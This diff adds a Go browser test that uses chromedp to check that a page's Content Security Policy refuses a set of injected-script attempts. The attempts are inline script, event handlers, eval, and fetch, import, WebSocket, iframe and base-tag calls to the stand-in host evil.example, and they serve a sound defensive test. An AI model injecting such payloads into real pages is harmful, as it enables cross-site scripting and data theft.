@@ -1,0 +1,65 @@
+package main
+
+import (
+	"context"
+	"strings"
+	"time"
+
+	"github.com/chromedp/chromedp"
+)
+
+// trespasses is what somebody would have the page do who got a script into it:
+// all of it is to be refused, and `refused` says which rule of the policy did.
+const trespasses = `
+window.refused = new Set();
+document.addEventListener('securitypolicyviolation', (e) => refused.add(e.effectiveDirective));
+const attempt = (f) => { try { f(); } catch { /* it was refused at once */ } };
+attempt(() => { const s = document.createElement('script'); s.textContent = 'window.hacked = 1'; document.body.append(s); });
+attempt(() => { document.body.innerHTML += '<b onclick="window.hacked = 1">x</b>'; });
+attempt(() => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s); });
+attempt(() => { import('https://evil.example/x.js').catch(() => {}); });
+setTimeout(() => attempt(() => eval('window.hacked = 1'))); // by itself: a debugger may
+attempt(() => document.body.setAttribute('style', 'color: red'));
+attempt(() => { new Image().src = 'https://evil.example/x.png'; });
+attempt(() => { fetch('https://evil.example/').catch(() => {}); });
+attempt(() => new WebSocket('wss://evil.example/'));
+attempt(() => { const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f); });
+attempt(() => { const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); });
+''`
+
+// refusesTrespasses holds that a browser refuses what the page's policy does not
+// allow, and says so in its console: where it fails a test whose tab sees it.
+func (b browser) refusesTrespasses(url string) {
+	b.Helper()
+	of, shut := chromedp.NewContext(b.ctx)
+	defer shut()
+	ctx, cancel := context.WithTimeout(of, 30*time.Second)
+	defer cancel()
+	messages := chromedp.Console(ctx)
+	if err := chromedp.Do(ctx, chromedp.Navigate(url)); err != nil {
+		b.Fatal(err)
+	}
+	if _, err := chromedp.Run(ctx, chromedp.Evaluate[string](trespasses)); err != nil {
+		b.Fatal(err)
+	}
+	var refused string
+	want := []string{"script-src", "style-src", "img-src", "connect-src", "frame-src", "base-uri", "require-trusted-types-for"}
+	eventually(b.T, "every trespass is refused", func() bool {
+		var err error
+		if refused, err = chromedp.Run(ctx, chromedp.Evaluate[string](`[...refused].join(' ') + (window.hacked ?? '')`)); err != nil {
+			b.Fatal(err)
+		}
+		return containsAll(refused, want)
+	})
+	if strings.Contains(refused, "1") {
+		b.Errorf("a foreign script ran: %s", refused)
+	}
+	for m, err := range messages {
+		if err != nil {
+			b.Fatalf("the console says nothing of it: %v", err)
+		}
+		if m.Type == chromedp.ConsoleError && strings.Contains(m.Text, "Content Security Policy") {
+			return
+		}
+	}
+}
